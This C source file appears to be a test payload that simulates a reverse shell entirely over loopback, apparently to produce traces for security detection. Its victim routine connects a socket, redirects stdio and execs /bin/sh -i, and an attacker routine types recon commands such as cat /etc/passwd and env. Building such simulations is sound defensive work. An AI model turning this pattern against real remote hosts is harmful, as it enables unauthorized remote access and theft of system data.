// SPDX-License-Identifier: MIT
/*
 * reverse_shell: an interactive shell served over a TCP connection.
 *
 * The payload plays both sides inside the container's own network
 * namespace: an "attacker" child listens on 127.0.0.1:--port, and a
 * "victim" child connects to it, puts the socket on its stdin, stdout and
 * stderr and executes /bin/sh -i. The attacker then types a command every
 * --interval seconds (id, uname -a, cat /etc/passwd, ...), reads the
 * output and ends the session with `exit` before the deadline. Nothing
 * leaves 127.0.0.1. The trace shows a connect to the port followed, in the
 * same process, by an exec of a shell, then the shell's commands.
 */
#include "payload.h"

#include <poll.h>

static const char usage[] =
	"Runs /bin/sh -i over a loopback TCP connection and drives it.\n"
	"  --port=N      listener port on 127.0.0.1 (default 4444)\n"
	"  --interval=S  seconds between typed commands (default 2, 0.2..30)\n"
	"  --shell=PATH  shell to execute (default /bin/sh)\n";

static const char *const keys[] = { "port", "interval", "shell", NULL };

static const char *const commands[] = {
	"id", "uname -a", "cat /etc/os-release", "ls -la /root",
	"cat /etc/passwd", "ls /proc", "env", "cat /proc/self/cgroup",
};

/* Drains whatever the shell printed, for at most @ms milliseconds. */
static void drain(int fd, int ms)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	char buf[4096];

	while (poll(&p, 1, ms) > 0)
		if (read(fd, buf, sizeof(buf)) <= 0)
			break;
}

static void attacker(int lfd, double interval)
{
	struct pollfd p = { .fd = lfd, .events = POLLIN };
	uint64_t next;
	size_t i = 0;
	int fd;

	if (poll(&p, 1, (int)(pl_left() / 1000000)) <= 0)
		_exit(1);
	fd = accept(lfd, NULL, NULL);
	if (fd < 0)
		_exit(1);
	drain(fd, 200);
	next = pl_now();
	/* Leave a second for `exit` before the deadline. */
	while (pl_left() > PL_NSEC) {
		char line[128];
		int n;

		n = snprintf(line, sizeof(line), "%s\n",
			     commands[i++ % (sizeof(commands) /
					     sizeof(commands[0]))]);
		if (pl_write_all(fd, line, n) < 0)
			break;
		next += (uint64_t)(interval * PL_NSEC);
		while (pl_now() < next && pl_left() > PL_NSEC)
			drain(fd, 100);
	}
	pl_write_all(fd, "exit\n", 5);
	drain(fd, 500);
	close(fd);
	_exit(0);
}

static void victim(uint16_t port, const char *shell)
{
	int fd = pl_connect_lo(port);

	if (fd < 0)
		_exit(1);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	execl(shell, "sh", "-i", (char *)NULL);
	_exit(127);
}

int main(int argc, char **argv)
{
	pid_t listener, shell_pid;
	const char *shell;
	double interval;
	uint16_t port;
	int lfd, status = 0;

	pl_init(argc, argv, "reverse_shell", usage, keys);
	port = pl_int("port", 4444, 1, 65535);
	interval = pl_secs("interval", 2, 0.2, 30);
	shell = pl_str("shell", "/bin/sh");
	if (access(shell, X_OK) < 0)
		pl_die("%s: %s; pass --shell=PATH of a shell in the container",
		       shell, strerror(errno));
	lfd = pl_listen_lo_or_die(&port, 1);

	listener = pl_fork();
	if (listener == 0)
		attacker(lfd, interval);
	close(lfd);
	if (listener < 0)
		pl_die("fork: %s", strerror(errno));

	pl_begin();
	shell_pid = pl_fork();
	if (shell_pid == 0)
		victim(port, shell);
	/* The session ends when the attacker types exit or at the deadline. */
	while (shell_pid > 0 && pl_running()) {
		pid_t r = waitpid(shell_pid, &status, WNOHANG);

		if (r == shell_pid) {
			shell_pid = 0;
			break;
		}
		pl_sleep_ms(100);
	}
	pl_finish();
	pl_reap(shell_pid);
	pl_reap(listener);
	return 0;
}
